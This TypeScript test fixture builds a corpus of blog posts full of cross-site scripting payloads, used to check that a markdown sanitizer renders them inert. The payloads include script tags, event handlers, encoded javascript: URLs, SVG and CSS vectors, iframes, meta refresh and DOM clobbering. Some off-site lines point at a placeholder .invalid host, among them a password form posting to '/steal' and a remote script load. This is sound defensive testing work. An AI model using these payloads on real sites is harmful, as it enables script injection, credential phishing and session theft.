// The blog's XSS corpus (docs/product.md, "Where we differ": raw HTML in posts is sanitized): posts
// whose markdown tries every common way to run script or leave the site, one post per family of
// attack so the browser suite renders the whole corpus in a few page loads. Every payload that
// could run writes the sentinel global `window.__xss` and opens a dialog; every address that could
// navigate points at XSS_HOST, a host that cannot resolve (RFC 6761 .invalid), which the suite also
// intercepts. Rendered, none of it may run, open anything or go anywhere.

/** The host of every off-site address in the corpus: a request to it means something navigated. */
export const XSS_HOST = 'xss.invalid';

/** What a payload runs: the sentinel, then a dialog (both watched by the suite). */
const run = (label: string) => `window.__xss='${label}';alert('${label}')`;

interface CorpusPost {
  readonly title: string;
  /** Shown after every payload: the page has rendered the whole body once it is visible. */
  readonly body: readonly string[];
}

const SCRIPT_TAGS: CorpusPost = {
  title: 'XSS corpus: script elements',
  body: [
    `<script>${run('script')}</script>`,
    `<SCRIPT>${run('upper script')}</SCRIPT>`,
    `<script type="module">${run('module script')}</script>`,
    `<script src="data:text/javascript,${run('script src data')}"></script>`,
    `<script src="http://${XSS_HOST}/x.js"></script>`,
    `<scr<script>ipt>${run('split script')}</scr</script>ipt>`,
    `<div><script>${run('nested script')}</script></div>`,
    `<svg><script>${run('svg script')}</script></svg>`,
    `<noscript><p title="</noscript><img src=x onerror="${run('noscript mutation')}">"></noscript>`,
    `<textarea><script>${run('textarea script')}</script></textarea>`,
    `<template><script>${run('template script')}</script></template>`,
    // Code is shown, never run.
    '```html\n<script>' + run('fenced code') + '</script>\n```',
    '`<script>' + run('code span') + '</script>`',
  ],
};

const EVENT_HANDLERS: CorpusPost = {
  title: 'XSS corpus: event handlers',
  body: [
    `<img src="x" onerror="${run('img onerror')}" alt="broken image">`,
    `<IMG SRC="x" ONERROR="${run('upper onerror')}">`,
    `<img src=x onerror=${run('unquoted onerror').replace(/'/g, '`')}>`,
    `<body onload="${run('body onload')}">`,
    `<div onmouseover="${run('onmouseover')}" onclick="${run('onclick')}">hover target</div>`,
    `<p onfocus="${run('onfocus')}" tabindex="0" autofocus>focus target</p>`,
    `<input autofocus onfocus="${run('input autofocus')}">`,
    `<details open ontoggle="${run('ontoggle')}"><summary>toggle target</summary>inside</details>`,
    `<video src="x" onerror="${run('video onerror')}"></video>`,
    `<audio src="x" onerror="${run('audio onerror')}"></audio>`,
    `<marquee onstart="${run('marquee onstart')}">marquee</marquee>`,
    `<a href="https://${XSS_HOST}/" onclick="${run('link onclick')}">handler link</a>`,
    `<span onpointerenter="${run('onpointerenter')}" onanimationstart="${run('onanimationstart')}">pointer target</span>`,
    `<table><tr><td background="javascript:${run('td background')}" onmouseover="${run('td hover')}">cell target</td></tr></table>`,
  ],
};

const DANGEROUS_URLS: CorpusPost = {
  title: 'XSS corpus: script addresses',
  body: [
    `<a href="javascript:${run('raw javascript')}">raw javascript link</a>`,
    `<a href="JaVaScRiPt:${run('mixed case')}">mixed case link</a>`,
    `<a href="&#106;avascript:${run('decimal entity')}">decimal entity link</a>`,
    `<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${run('hex entity')}">hex entity link</a>`,
    `<a href="&#0000106&#0000097vascript:${run('padded entity')}">padded entity link</a>`,
    `<a href="javascript&colon;${run('named colon')}">named colon link</a>`,
    `<a href="java&Tab;script:${run('named tab')}">named tab link</a>`,
    `<a href="java&#x0A;script:${run('newline')}">newline link</a>`,
    `<a href=" javascript:${run('leading space')}">leading space link</a>`,
    `<a href="&#14;javascript:${run('control char')}">control character link</a>`,
    `<a href="vbscript:msgbox('vbscript')">vbscript link</a>`,
    `<a href="VBScript:msgbox('vbscript upper')">upper vbscript link</a>`,
    `<a href="data:text/html,<script>${run('data html')}</script>">data link</a>`,
    `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgnYjY0Jyk8L3NjcmlwdD4=">base64 data link</a>`,
    `[markdown javascript link](javascript:${run('markdown inline')})`,
    `[markdown spaced link]( javascript:${run('markdown spaced')})`,
    `[markdown angle link](<javascript:${run('markdown angle')}>)`,
    `[markdown entity link](&#x6A;avascript:${run('markdown entity')})`,
    `[markdown reference link][dangerous]\n\n[dangerous]: javascript:${run('markdown reference')}`,
    `<javascript:${run('autolink')}>`,
    `[![image in a link](x.png)](javascript:${run('image link')})`,
    `![javascript image](javascript:${run('image src')})`,
    `<img src="javascript:${run('raw img src')}" srcset="javascript:${run('srcset')} 1x" alt="raw javascript image">`,
    `<blockquote cite="javascript:${run('cite')}">quoted</blockquote>`,
  ],
};

const SVG_AND_CSS: CorpusPost = {
  title: 'XSS corpus: SVG, MathML and CSS',
  body: [
    `<svg onload="${run('svg onload')}"></svg>`,
    `<svg><a xlink:href="javascript:${run('svg xlink')}"><text x="0" y="15">svg link</text></a></svg>`,
    `<svg><animate attributeName="href" values="javascript:${run('svg animate')}"/><set attributeName="onload" to="${run('svg set')}"/></svg>`,
    `<svg><foreignObject><img src="x" onerror="${run('foreign object')}"></foreignObject></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${run('svg use')}'/></svg>#x"/></svg>`,
    `<math><mi xlink:href="javascript:${run('math href')}">math link</mi></math>`,
    `<style>@import "http://${XSS_HOST}/x.css"; body { display: none }</style>`,
    `<style>*{background:url("javascript:${run('style url')}")}</style>`,
    `<div style="background:url(javascript:${run('style attr url')})">styled url</div>`,
    `<div style="width: expression(${run('expression')})">styled expression</div>`,
    `<p style="position:fixed;inset:0;z-index:9999;background:red">overlay</p>`,
    `<link rel="stylesheet" href="http://${XSS_HOST}/x.css">`,
    `<div class="blog-markdown" id="style-clash">class clash</div>`,
  ],
};

const EMBEDDING: CorpusPost = {
  title: 'XSS corpus: frames, objects, forms and document metadata',
  body: [
    `<iframe src="javascript:parent.${run('iframe src')}"></iframe>`,
    `<iframe srcdoc="<script>parent.${run('srcdoc')}</script>"></iframe>`,
    `<iframe src="http://${XSS_HOST}/"></iframe>`,
    `<object data="javascript:${run('object')}"></object>`,
    `<object data="data:text/html,<script>${run('object data')}</script>"></object>`,
    `<embed src="javascript:${run('embed')}">`,
    `<embed src="http://${XSS_HOST}/x.swf">`,
    `<form action="javascript:${run('form action')}"><input name="q" value="x"><button formaction="javascript:${run('formaction')}">submit form</button></form>`,
    `<form action="http://${XSS_HOST}/steal" method="post"><input type="password" name="password"><button>log in</button></form>`,
    `<meta http-equiv="refresh" content="0;url=http://${XSS_HOST}/refresh">`,
    `<meta http-equiv="refresh" content="0;url=javascript:${run('meta refresh')}">`,
    `<base href="http://${XSS_HOST}/">`,
    `<link rel="import" href="http://${XSS_HOST}/import.html">`,
    `<frameset onload="${run('frameset')}"><frame src="javascript:${run('frame')}"></frameset>`,
    `<portal src="http://${XSS_HOST}/"></portal>`,
    `<img src="x" name="getElementById"> <p id="location">clobbering id</p> <a id="cookie" name="cookie">clobbering name</a>`,
  ],
};

const NESTED_MARKDOWN: CorpusPost = {
  title: 'XSS corpus: raw HTML nested in markdown',
  body: [
    '| Column | Payload |\n| --- | --- |\n' +
      `| link | <a href="javascript:${run('table link')}">table cell link</a> |\n` +
      `| image | <img src="x" onerror="${run('table image')}"> |\n` +
      `| markdown | [table markdown link](javascript:${run('table markdown')}) |`,
    `- [x] done <img src="x" onerror="${run('task image')}">\n- [ ] <a href="javascript:${run('task link')}">task list link</a>\n- [ ] plain task`,
    `> quoted <a href="javascript:${run('quote link')}">blockquote link</a>\n> <svg onload="${run('quote svg')}"></svg>`,
    `1. first <b onmouseover="${run('list bold')}">bold item</b>\n2. [list markdown link](javascript:${run('list markdown')})`,
    `## Heading <img src="x" onerror="${run('heading image')}"> with [heading link](javascript:${run('heading link')})`,
    `A footnote reference.[^evil]\n\n[^evil]: Footnote with [footnote link](javascript:${run('footnote link')}) <img src="x" onerror="${run('footnote image')}">`,
    `<details><summary>raw details</summary>\n\n[details markdown link](javascript:${run('details markdown')})\n\n<img src="x" onerror="${run('details image')}">\n\n</details>`,
    `**bold [emphasis link](javascript:${run('emphasis link')})** and *<i onclick="${run('italic')}">italic target</i>*`,
    `~~<s onmouseover="${run('strike')}">struck target</s>~~`,
    '```\n<img src=x onerror="' + run('fenced image') + '">\n```',
    `Entity tricks: &lt;script&gt;${run('escaped text')}&lt;/script&gt; and &#60;img src=x onerror=${run('numeric escaped').replace(/'/g, '')}&#62;`,
    `<div>\n\n[markdown inside raw div](javascript:${run('div markdown')})\n\n</div>`,
    `<a href="https://${XSS_HOST}/"><img src="x" onerror="${run('image in raw link')}"></a>`,
  ],
};

/**
 * The link allow-list (docs/product.md §5): each link's text names it; the suite checks the address
 * it ends with, and whether it opens as an external link (new tab, rel noopener noreferrer).
 */
export const LINK_RULES: readonly { readonly text: string; readonly markdown: string; readonly href: string; readonly external: boolean }[] = [
  { text: 'https link', markdown: `[https link](https://${XSS_HOST}/page)`, href: `https://${XSS_HOST}/page`, external: true },
  { text: 'http link', markdown: `<a href="http://${XSS_HOST}/page">http link</a>`, href: `http://${XSS_HOST}/page`, external: true },
  { text: 'upper-case https link', markdown: `<a href="HTTPS://${XSS_HOST}/upper">upper-case https link</a>`, href: `https://${XSS_HOST}/upper`, external: true },
  { text: 'spaced https link', markdown: `<a href=" https://${XSS_HOST}/spaced">spaced https link</a>`, href: `https://${XSS_HOST}/spaced`, external: true },
  { text: 'raw target link', markdown: `<a href="https://${XSS_HOST}/t" target="_self" rel="opener">raw target link</a>`, href: `https://${XSS_HOST}/t`, external: true },
  { text: 'protocol-relative link', markdown: `<a href="//${XSS_HOST}/pr">protocol-relative link</a>`, href: `//${XSS_HOST}/pr`, external: true },
  { text: 'backslash link', markdown: `<a href="/\\${XSS_HOST}/bs">backslash link</a>`, href: `/\\${XSS_HOST}/bs`, external: true },
  { text: 'tab-slash link', markdown: `<a href="/&Tab;/${XSS_HOST}/tab">tab-slash link</a>`, href: `//${XSS_HOST}/tab`, external: true },
  { text: 'mailto link', markdown: '[mailto link](mailto:team@example.com)', href: 'mailto:team@example.com', external: false },
  { text: 'tel link', markdown: '<a href="tel:+441234567890">tel link</a>', href: 'tel:+441234567890', external: false },
  { text: 'site link', markdown: '[site link](/blog)', href: '/blog', external: false },
  { text: 'relative link', markdown: '[relative link](other-post)', href: 'other-post', external: false },
  { text: 'anchor link', markdown: '[anchor link](#notes)', href: '#user-content-notes', external: false },
  { text: 'ftp link', markdown: `[ftp link](ftp://${XSS_HOST}/file)`, href: '#', external: false },
  { text: 'file link', markdown: '<a href="file:///etc/passwd">file link</a>', href: '#', external: false },
  { text: 'blob link', markdown: `<a href="blob:https://${XSS_HOST}/uuid">blob link</a>`, href: '#', external: false },
  { text: 'encoded scheme link', markdown: `[encoded scheme link](javascript%3A${run('encoded')})`, href: `javascript%3A${run('encoded')}`, external: false },
];

const LINKS: CorpusPost = {
  title: 'XSS corpus: the link allow-list',
  body: [LINK_RULES.map((rule) => `- ${rule.markdown}`).join('\n'), '<p id="notes">notes</p>'],
};

/** The text after the payloads: visible once the whole body has rendered. */
export const CORPUS_END = 'End of the corpus post.';

/** One post per family of attack, by slug. */
export const XSS_CORPUS: Readonly<Record<string, CorpusPost>> = {
  'xss-corpus-script-tags': SCRIPT_TAGS,
  'xss-corpus-event-handlers': EVENT_HANDLERS,
  'xss-corpus-dangerous-urls': DANGEROUS_URLS,
  'xss-corpus-svg-and-css': SVG_AND_CSS,
  'xss-corpus-embedding': EMBEDDING,
  'xss-corpus-nested-markdown': NESTED_MARKDOWN,
  'xss-corpus-links': LINKS,
};

/**
 * The corpus as post files of the blog service (services/blog/posts/<slug>.md): category Technical
 * and dated before every shipped post, like the sanitizer-check post, so the blog's flow tests
 * (Methodology and Analysis filters, the first cards) never meet them.
 */
export const XSS_CORPUS_FILES: Readonly<Record<string, string>> = Object.fromEntries(
  Object.entries(XSS_CORPUS).map(([slug, post], index) => [
    `${slug}.md`,
    `---
title: "${post.title}"
description: Payloads that must render inert.
keywords:
  - security
author: Scoreline Research
date: 2019-01-${String(index + 1).padStart(2, '0')}
category: Technical
---

Start of the corpus post.

${post.body.join('\n\n')}

${CORPUS_END}
`,
  ]),
);
